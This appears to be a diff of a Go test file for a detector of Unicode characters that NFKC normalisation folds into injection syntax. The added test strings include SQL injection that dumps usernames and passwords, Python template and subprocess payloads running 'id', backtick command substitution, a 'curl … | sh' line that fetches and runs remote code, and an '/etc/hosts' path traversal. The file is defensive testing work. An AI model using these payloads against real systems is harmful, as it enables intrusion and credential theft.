@@ -27,6 +27,9 @@ var nfkcAttacks = []string{
 	// NFKC-normalises what it reads
 	`{{ⓢⓔⓛⓕ.__ⓘⓝⓘⓣ__.__ⓖⓛⓞⓑⓐⓛⓢ__.__ⓑⓤⓘⓛⓣⓘⓝⓢ__.__ⓘⓜⓟⓞⓡⓣ__("os").ⓟⓞⓟⓔⓝ("id").ⓡⓔⓐⓓ()}}`,
 	`x' ⓤⓝⓘⓞⓝ ⓢⓔⓛⓔⓒⓣ username, password ⓕⓡⓞⓜ users--`, `x' 🅄🄽🄸🄾🄽 🅂🄴🄻🄴🄲🅃 username, password 🄵🅁🄾🄼 users--`,
+	// attack 23's: spacing modifier letters (ʳ ˢ) and the Greek varia (` folds to a backtick)
+	"1' union ˢelect username, password from users--", `__impoʳt__("subprocess").getoutput("id")`,
+	"x `id`", "name=`curl -s 203.0.113.9|sh`",
 }
 
 // nfkcBenign is text with such characters that people write: Japanese
@@ -39,7 +42,7 @@ var nfkcBenign = []string{
 	"ﬁnancial oﬃce hours",
 	"Widget™ No. 1ª edición, 2º piso",
 	"（株）ＡＢＣ　ＴＥＬ：０３－１２３４－５６７８",
-	"① 最初に ② 次に ③ 最後に", "ⓒ 2026 ACME (all rights reserved)", "Ⓐ型（ＡＢＣ）", "🅰🅱 blood types",
+	"えっと‥そうですね‥ (Ａ案)", "[pʰɪn] and [tʷo] /sʲa/", "① 最初に ② 次に ③ 最後に", "ⓒ 2026 ACME (all rights reserved)", "Ⓐ型（ＡＢＣ）", "🅰🅱 blood types",
 }
 
 func TestNFKCFolded(t *testing.T) {
@@ -54,6 +57,11 @@ func TestNFKCFolded(t *testing.T) {
 		if n, ok := nfkcFolded(s); ok {
 			t.Errorf("%q folded to %q, which holds no syntax", s, n)
 		}
+	}
+	// the two dot leader folds to .. (the CRS's traversal rules already
+	// refuse ‥/‥/ in the places TestNFKCBeyondTheCRS tries)
+	if n, ok := nfkcFolded("‥/‥/etc/hosts"); !ok || n != "../../etc/hosts" {
+		t.Errorf("two dot leaders: folded to %q, %v", n, ok)
 	}
 	if _, ok := nfkcFolded("株式会社（ＡＢＣ）"); !ok {
 		t.Errorf("full-width parentheses: not folded")
